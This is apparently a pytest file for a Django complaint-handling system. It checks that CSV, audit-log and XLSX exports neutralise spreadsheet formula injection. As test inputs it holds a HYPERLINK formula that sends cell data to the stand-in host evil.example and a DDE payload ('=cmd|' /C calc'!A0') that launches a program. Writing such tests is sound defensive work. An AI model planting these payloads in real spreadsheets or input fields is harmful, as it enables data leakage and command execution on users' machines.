"""Item 7 of issue 16: text a citizen or an operator typed never becomes a spreadsheet formula.

Every CSV the system writes (back-office export, audit log, public statistics, the Ombudsman's compliance
table) puts an apostrophe before a cell that starts with = + - @, tab or carriage return.
"""

import csv
import io
import zipfile

import pytest
from django.urls import reverse

from sikesal.catalogue.models import Institution

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?d="&M3&N3&O3,"x")'
DANGEROUS = ["=1+2", "+628123", "-2+3", "@SUM(A1)"]  # tab and CR: the intake strips leading space


def rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def cells(table):
    return [cell for row in table for cell in row]


def assert_no_formula(table):
    formulas = [cell for cell in cells(table) if cell[:1] in ("=", "+", "@", "\t", "\r") or cell.startswith("-")]
    assert formulas == []


def test_export_neutralises_title_and_reporter_fields(client, users, submit):
    submit(title=FORMULA_TITLE, reporter={"name": "=1+2", "phone": "081234567890", "email": "budi@example.com"})
    client.force_login(users["admin"])
    table = rows(client.get(reverse("backoffice:export") + "?antrian=semua"))
    assert "'" + FORMULA_TITLE in cells(table) and "'=1+2" in cells(table)
    assert_no_formula(table)


@pytest.mark.parametrize("text", DANGEROUS)
def test_every_dangerous_first_character(client, users, submit, text):
    submit(title=text + " jalan berlubang di depan pasar")
    client.force_login(users["admin"])
    table = rows(client.get(reverse("backoffice:export") + "?antrian=semua"))
    assert "'" + text + " jalan berlubang di depan pasar" in cells(table)


def test_audit_log_csv(client, users):
    client.post(reverse("backoffice:login"), {"username": "=cmd|' /C calc'!A0", "password": "x"})
    users["admin"].username = "=admin"
    users["admin"].save()
    client.force_login(users["admin"])
    client.get(reverse("backoffice:export"))  # an audited action by "=admin"
    table = rows(client.get(reverse("backoffice:audit_csv")))
    assert "'=admin" in cells(table)
    assert_no_formula(table)


@pytest.fixture
def formula_opd(opd):
    Institution.objects.filter(pk=opd.pk).update(name="=1+1 Dinas", short_name="=1+1 Dinas")
    return opd


def test_public_statistics_csv(client, in_state, formula_opd):
    in_state("dispositioned")
    table = rows(client.get(reverse("portal:stats_csv")))
    assert any(cell.startswith("'=1+1") for cell in cells(table))
    assert_no_formula(table)


def test_ombudsman_compliance_csv(client, users, in_state, formula_opd):
    in_state("dispositioned")
    client.force_login(users["ombudsman"])
    table = rows(client.get(reverse("ombudsman:compliance") + "?format=csv"))
    assert any(cell.startswith("'=1+1") for cell in cells(table))
    assert_no_formula(table)


def test_helper_covers_tab_and_carriage_return():
    from sikesal.core.csvsafe import safe_cell

    assert [safe_cell(v) for v in ("\t=1", "\r=1", "-", "a=1", -5, None)] == ["'\t=1", "'\r=1", "'-", "a=1", -5, None]


def test_xlsx_export_writes_formula_text_as_text(client, users, submit):
    submit(title=FORMULA_TITLE)
    client.force_login(users["admin"])
    response = client.get(reverse("backoffice:export_xlsx") + "?antrian=semua")
    book = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet
